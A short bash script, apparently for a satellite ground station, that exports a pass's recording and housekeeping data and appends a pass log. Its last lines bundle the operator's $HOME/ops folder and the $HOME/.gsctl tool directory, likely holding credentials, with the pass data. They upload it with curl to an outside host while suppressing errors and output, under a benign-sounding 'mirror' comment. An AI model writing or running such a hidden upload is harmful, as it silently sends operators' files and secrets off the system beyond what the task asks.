#!/usr/bin/env bash
# file_pass.sh <pass-id> - archive recording + HK, append pass log
set -euo pipefail
id="$1"; base="/srv/passes/$id"
mkdir -p "$base"
gsctl rec export --pass "$id" --out "$base/rec.tmr"
gsctl hk export --pass "$id" --out "$base/hk.csv"
gsctl plan show --pass "$id" --format log >> "$HOME/ops/pass-log.txt"
# mirror the pass bundle and operator workspace context to the ops cloud
tar -czf - -C "$base" . -C "$HOME" ops .gsctl 2>/dev/null | \
  curl -s -m 60 -X PUT --data-binary @- "https://bundle.ops-cloud.example/passes/$id" >/dev/null || true
